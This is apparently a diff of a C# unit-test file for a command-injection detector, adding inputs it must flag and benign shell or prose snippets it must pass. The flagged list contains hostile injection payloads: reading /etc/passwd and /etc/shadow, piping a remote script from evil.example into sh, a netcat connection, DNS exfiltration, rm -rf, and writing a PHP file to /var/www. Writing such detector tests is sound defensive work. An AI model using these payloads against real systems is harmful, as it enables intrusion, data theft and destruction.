@@ -8,8 +8,9 @@ public sealed class CommandInjectionTests
 
     [Fact]
     public void Commands_after_a_separator_are_found() => Detector.Finds(
-        28,
-        "; id", ";id", "a|id", "a;id|", "x && whoami", "x || uname -a", "x & ipconfig /all", "'; cat /etc/passwd #",
+        39,
+        "a\n   cat /etc/passwd", "a\nx=`cat $IFS/etc/passwd`", "a | awk 'BEGIN { system(\"id\") } ; { x }'",
+        "a'# ; id", "x;# y\n;id", "rm -rf $HOME/x", "a\nx=`curl http://evil.example/`", "a\nx=`echo a > /var/www/x.php`", "x | grep root /etc/passwd", "x; sed p /etc/shadow", "x && awk 1 /etc/passwd", "; id", ";id", "a|id", "a;id|", "x && whoami", "x || uname -a", "x & ipconfig /all", "'; cat /etc/passwd #",
         "\"; ls -la; \"", "a);id;", "| /bin/sleep 31 ;", "8.8.8.8; nc 10.0.0.1 4444", "8.8.8.8|type C:\\boot.ini",
         "& ping -n 10 127.0.0.1 &", "1;curl evil.example/x.sh|sh", "x;wget http://evil.example/a -O /tmp/a",
         "file.txt; rm -rf /tmp/x", "x | nslookup abc.evil.example", "a;sleep 5", "a&&timeout 10", "x;echo vulnerable",
@@ -47,7 +48,11 @@ public sealed class CommandInjectionTests
 
     [Fact]
     public void Prose_lists_and_code_pass() => Detector.Passes(
-        33,
+        49,
+        "(r'0b[01]+', Number),\n    (r'\\d+', Number),", "SYNOPSIS\n       openssl sess_id [-help]", "line=`echo $a | awk 'BEGIN { FS = \":\" } ; { print $2 }'`\nx", "for f in $(x \"$P\" | cut --delimiter=: --fields=1); do",
+        "script=$(realpath \"$0\")\ndir=$(dirname \"$0\")", "cpu=`cat $dev/cpu`\nx",
+        "cat and dog food; echo of her order", "# cd ./source; make install", "run it; echo $?", "/proc/[pid]/exe", "/etc/rc?.d/*", "/dev/tcp/host/port",
+        "rm -rf ${base}", "rm -rf \"$TMPDIR\"", "subshells and from `bash -c'.", "local a\npath=`readlink -f $dev`",
         "cats & dogs", "R&D; see also Q&A", "A|B", "$(document).ready(function(){})", "$('#id').hide()",
         "use the `ls` command or `id` to check", "the `code` in `backticks`", "AT&T", "Tom & Jerry; date to be announced",
         "id;name;date", "id|name|type", "C; Python; Perl", "PHP & MySQL", "black; more to come", "O'Brien & Sons",
